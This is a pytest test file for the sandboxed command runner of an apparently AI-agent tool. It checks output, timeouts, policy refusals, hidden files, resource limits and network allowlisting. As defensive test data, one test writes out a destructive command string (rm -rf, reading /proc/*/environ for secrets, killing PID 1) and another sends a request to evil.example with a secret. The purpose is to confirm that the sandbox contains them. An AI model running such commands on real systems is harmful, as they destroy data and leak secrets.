"""`ay-bot sandbox exec`: a command behind the wall, with its output as it comes, and its exit code."""

import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
from typer.testing import CliRunner

from ay_bot.agent.guarding import judge_line
from ay_bot.cli import app
from ay_bot.errors import CommandRefused, ExitCode, SandboxUnavailable, UsageError
from ay_bot.host.egress import Attempt, Network
from ay_bot.host.sandbox_exec import Executed, Wanted, choose_network, run
from tests.host.egress.conftest import require_proxy
from tests.host.git_repositories import make_repository
from tests.host.sandbox.conftest import BUBBLEWRAP, DOCKER


@pytest.fixture(params=[DOCKER, BUBBLEWRAP])
def driver(request: pytest.FixtureRequest) -> str:
    return request.param


def shell(driver: str, script: str, **settings: object) -> Executed:
    return run(["sh", "-c", script], os.environ, Wanted(sandbox=driver, **settings))


def test_output_and_exit_code_come_back(driver: str) -> None:
    done = shell(driver, "pwd; ls -A; echo 'two words' >&2; exit 7")
    assert (done.driver, done.exit_code, done.timed_out) == (driver, 7, False)
    assert done.output == "/work\ntwo words\n"


def test_arguments_reach_the_command_as_they_are(driver: str) -> None:
    words = ["a b", "$HOME", "*", "'\"", "", "-x", "é\n"]
    done = run(["printf", "<%s>", *words], os.environ, Wanted(sandbox=driver))
    assert done.output == "".join(f"<{word}>" for word in words)


def test_the_tree_of_head_is_the_workspace(driver: str, tmp_path: Path) -> None:
    git = ["git", "-C", str(tmp_path), "-c", "user.name=x", "-c", "user.email=x@y"]
    (tmp_path / "kept").write_text("of HEAD\n")
    for arguments in (["init", "-q"], ["add", "kept"], ["commit", "-qm", "x"]):
        subprocess.run([*git, *arguments], check=True)
    (tmp_path / "kept").write_text("not committed\n")
    (tmp_path / "other").write_text("")
    done = shell(driver, "cat kept; ls -A; echo changed > kept", repository=tmp_path)
    assert done.output == "of HEAD\nkept\n"
    assert (tmp_path / "kept").read_text() == "not committed\n"


def test_a_command_that_takes_too_long_is_ended(driver: str) -> None:
    done = shell(driver, "echo begun; sleep 60", timeout=0.5)
    assert (done.exit_code, done.timed_out, done.output) == (124, True, "begun\n")


def test_nothing_is_there_to_do_harm_to(driver: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("A_SECRET", "hunter2-of-the-caller")
    (tmp_path / "planted").write_text("of the host")
    harm = f"rm -rf {tmp_path}; cat {tmp_path}/planted; cat /proc/*/environ; touch /etc/x /usr/x; kill -9 1; printf '\\033[2J'"
    done = shell(driver, harm)
    assert (tmp_path / "planted").read_text() == "of the host"
    assert "hunter2" not in done.output
    assert "\x1b" not in done.output


@pytest.mark.parametrize(
    ("command", "settings", "message"),
    [
        ([], {}, "no command"),
        (["ls"], {"sandbox": "chroot"}, "no sandbox `chroot`"),
        (["ls"], {"timeout": 0}, "can't have 0 seconds"),
        (["ls"], {"repository": Path("/nonexistent")}, "does not exist"),
        (["ls"], {"policy": Path("/nonexistent")}, "can't be read"),
        (["ls"], {"network": "pypi"}, "`--network pypi` names no network"),
        (["ls"], {"network": "pip,10.0.0.1"}, "names no network"),
        (["ls"], {"sandbox": "bubblewrap", "image": "debian"}, "can't use the image"),
    ],
)
def test_what_cannot_be_done_is_told(command: list[str], settings: dict[str, object], message: str) -> None:
    with pytest.raises(UsageError, match=message):
        run(command, os.environ, Wanted(**settings))


def test_output_comes_while_the_command_runs() -> None:
    seen: list[tuple[float, str]] = []
    begun = time.monotonic()
    wanted = Wanted(sandbox="bubblewrap", show=lambda text: seen.append((time.monotonic() - begun, text)))
    done = run(["sh", "-c", "echo one; sleep 1; echo two; exit 5"], os.environ, wanted)
    assert ([text for _, text in seen], done.exit_code) == (["one\n", "two\n"], 5)
    assert seen[1][0] - seen[0][0] > 0.8


def test_ctrl_c_ends_the_box(tmp_path: Path) -> None:
    command = ["sandbox", "exec", "--driver", "bubblewrap", "--", "sh", "-c", "echo begun; sleep 97531"]
    start = [sys.executable, "-m", "ay_bot", *command]
    with subprocess.Popen(start, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True) as process:
        assert process.stdout
        assert process.stdout.readline() == "begun\n"
        process.send_signal(signal.SIGINT)
        process.communicate(timeout=20)
    assert process.returncode == ExitCode.INTERRUPTED
    assert b"97531" not in subprocess.run(["ps", "ax", "-o", "args"], capture_output=True, check=True).stdout


def test_what_a_rule_forbids_is_not_run(tmp_path: Path) -> None:
    file = tmp_path / "policy.yml"
    file.write_text("commands:\n  - {prefix: [touch], reason: look only}\n")
    wanted = Wanted(sandbox="bubblewrap", policy=file, judge=judge_line)
    with pytest.raises(CommandRefused, match="`touch x` may not be run: look only") as refused:
        run(["sh", "-c", "true; touch x"], os.environ, wanted)
    assert (refused.value.exit_code, refused.value.hint.split(";")[0]) == (ExitCode.DENIED, f"the rule is {file}:2")
    assert run(["true"], os.environ, wanted).exit_code == 0


def test_files_that_are_kept_from_agents_are_not_there(tmp_path: Path) -> None:
    files = {"private/x": "1", "a": "2", ".github/ay-bot.yml": "files: [{paths: [private/], read: deny}]"}
    repository = make_repository(tmp_path / "repository", files)
    wanted = Wanted(sandbox="bubblewrap", repository=repository)
    assert run(["ls", "-A"], os.environ, wanted).output == ".github\na\n"


LIMITS = "limits: {work: 48, temporary: 24, open_files: 300, memory: 400}"
LOOK = "ulimit -n; df -Pm /work /tmp | awk 'NR > 1 {print $2}'; ls -A"


def test_the_limits_of_a_policy_are_those_of_the_box(driver: str, tmp_path: Path) -> None:
    file = tmp_path / "policy.yml"
    file.write_text(LIMITS)
    full = "head -c 60000000 /dev/zero > big"
    done = shell(driver, f"{LOOK}; {full}", policy=file)
    assert done.output.split()[:3] == ["300", "48", "24"]
    assert "No space left on device" in done.output


@pytest.mark.bwrap
def test_what_a_policy_requires_of_the_wall_holds(tmp_path: Path) -> None:
    file = tmp_path / "policy.yml"
    file.write_text("require: [images]")
    with pytest.raises(SandboxUnavailable, match="images"):
        run(["true"], os.environ, Wanted(sandbox="bubblewrap", policy=file, require=["network"]))


def test_in_a_repository_its_own_policy_counts_and_none_of_its_files(tmp_path: Path) -> None:
    repository = make_repository(tmp_path / "repository", {"a": "1", ".github/ay-bot.yml": LIMITS, "sub/b": "2"})
    inside = Wanted(sandbox="bubblewrap", directory=repository / "sub")
    assert run(["sh", "-c", LOOK], os.environ, inside).output.split() == ["300", "48", "24"]
    named = Wanted(sandbox="bubblewrap", directory=repository / "sub", repository=repository)
    assert run(["sh", "-c", LOOK], os.environ, named).output.split() == ["300", "48", "24", ".github", "a", "sub"]
    file = tmp_path / "policy.yml"
    file.write_text("limits: {open_files: 200}")
    other = Wanted(sandbox="bubblewrap", directory=repository, policy=file)
    assert run(["sh", "-c", "ulimit -n"], os.environ, other).output == "200\n"
    outside = Wanted(sandbox="bubblewrap", directory=tmp_path)
    assert run(["sh", "-c", "ulimit -n"], os.environ, outside).output == "4096\n"


def test_the_command_line_knows_the_repository_that_it_is_run_in(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(make_repository(tmp_path / "repository", {".github/ay-bot.yml": LIMITS}))
    words = ["sandbox", "exec", "--driver", "bubblewrap", "--", "sh", "-c", "ulimit -n"]
    assert CliRunner().invoke(app, words).stdout == "300\n"


def test_a_repository_that_is_larger_than_the_workspace_is_refused_before_a_box_is_made(tmp_path: Path) -> None:
    files = {"big": "x" * 17_000_000, ".github/ay-bot.yml": "limits: {work: 16, memory: 800}"}
    repository = make_repository(tmp_path / "repository", files)
    with pytest.raises(UsageError, match="the workspace of a box only 16 MiB"):
        run(["true"], os.environ, Wanted(sandbox="bubblewrap", repository=repository))


@pytest.mark.parametrize(
    ("word", "where", "mode", "presets", "hosts"),
    [
        ("none", "setup", "none", (), ()),
        ("setup", "setup", "allowlist", ("pip",), ()),
        ("agent", "agent", "none", (), ()),
        ("npm, example.org,pip", "setup", "allowlist", ("npm", "pip"), ("example.org",)),
    ],
)
def test_a_network_is_named_in_one_word(word, where, mode, presets, hosts) -> None:
    network = Network.model_validate({"setup": {"mode": "allowlist", "presets": ["pip"]}})
    chosen, policy = choose_network(word, network)
    assert (chosen, policy.mode, policy.presets) == (where, mode, presets)
    assert tuple(rule.host for rule in policy.hosts) == hosts


def test_a_host_that_is_not_allowed_is_refused_with_the_change_that_would_allow_it(driver: str) -> None:
    require_proxy(driver)
    told: list[Attempt] = []
    ask = "import urllib.request as r\nr.urlopen('http://evil.example/?secret')"
    wanted = Wanted(sandbox=driver, network="pip", tell=told.append)
    done = run(["python3", "-c", ask], os.environ, wanted)
    assert done.exit_code == 1
    assert "403" in done.output
    assert [(one.host, one.allowed, one.fix) for one in done.attempts] == [
        ("evil.example", False, "add `- evil.example` to `network.setup.hosts`")
    ]
    assert [one.host for one in told] == ["evil.example"]
